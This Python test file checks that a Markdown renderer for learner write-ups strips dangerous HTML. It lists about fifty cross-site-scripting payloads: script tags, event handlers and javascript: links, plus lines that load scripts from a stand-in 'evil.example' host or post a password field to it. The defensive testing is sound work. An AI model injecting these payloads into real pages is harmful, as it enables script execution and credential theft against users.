"""Whatever a learner writes, the page stays ours: nothing in it runs, and nothing dresses up as ours."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from portfolio.writeup import render_writeup

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    '![x"onerror="alert(1)](x)',
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org 'onclick=alert(1)')",
    '<https://example.org/"onmouseover="alert(1)>',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1) id=main class=button>x</x>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]
ALLOWED_ATTRIBUTES = {"href", "title", "rel", "align", "start", "id"}


class Elements(HTMLParser):
    """What a browser would make of it: (tag, attributes) of every element."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("markdown", ATTACKS)
def test_nothing_that_runs_or_disguises_survives(markdown):
    for tag, attributes in Elements(render_writeup(markdown)).found:
        assert tag not in ("script", "style", "img", "svg", "iframe", "form", "input", "meta", "base", "link")
        assert set(attributes) <= ALLOWED_ATTRIBUTES, (tag, attributes)
        assert re.match(r"(https?:|mailto:|#|$)", attributes.get("href") or ""), attributes
        assert re.fullmatch(r"fn(ref)?-[0-9a-f]{8}-1|", attributes.get("id") or ""), attributes


def test_there_are_enough_attacks_to_mean_something():
    assert len(set(ATTACKS)) >= 30


def test_raw_html_is_shown_as_it_was_written():
    assert render_writeup("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_headings_begin_at_level_two():
    assert render_writeup("# One\n\n## Two\n\n###### Six") == "<h2>One</h2>\n<h3>Two</h3>\n<h4>Six</h4>\n"


def test_links_tell_search_engines_and_the_linked_site_nothing():
    html = render_writeup("see https://example.org/a")
    assert 'href="https://example.org/a"' in html
    assert 'rel="nofollow ugc noopener noreferrer"' in html


def test_tables_lists_code_and_footnotes_come_through():
    html = render_writeup("| a |\n|---|\n| 1 |\n\n1. x\n\n`y`\n\nz[^1]\n\n[^1]: note")
    for part in ("<td>1</td>", "<li>x</li>", "<code>y</code>", "<sup>", "note"):
        assert part in html


def test_footnotes_lead_to_their_notes_and_back_and_no_other_place_is_named():
    html = render_writeup("z[^1] y^[in place]\n\n[^1]: note")
    places = re.findall(r' id="([^"]+)"', html)
    assert len(set(places)) == len(places) == 4
    assert {f"#{place}" for place in places} == set(re.findall(r'href="(#[^"]+)"', html))
    assert not set(places) & set(re.findall(r' id="([^"]+)"', render_writeup("x[^1]\n\n[^1]: note")))


def test_a_word_without_end_is_no_work_without_end():
    began = time.process_time()
    html = render_writeup("http://a." * 5_000 + " https://example.org/")
    assert time.process_time() - began < 0.5  # it was four seconds
    assert "<a " not in html


def test_a_deep_nest_of_quotes_is_cut_and_no_trouble():
    assert render_writeup("> " * 5_000 + "x").count("<blockquote>") <= 20


def test_a_picture_is_a_link_to_it_and_inside_a_link_its_words_alone():
    assert '<a href="https://example.org/p.png"' in render_writeup("![my <b>plot](https://example.org/p.png)")
    assert ">my &lt;b&gt;plot</a>" in render_writeup("![my <b>plot](https://example.org/p.png)")
    badge = render_writeup("[![score](https://example.org/b.svg)](https://example.org/)")
    assert badge.count("<a ") == 1
    assert ">score</a>" in badge


def test_words_are_not_turned_around():
    assert "live" in render_writeup("\u202elive")
    assert "\u202e" not in render_writeup("\u202elive")
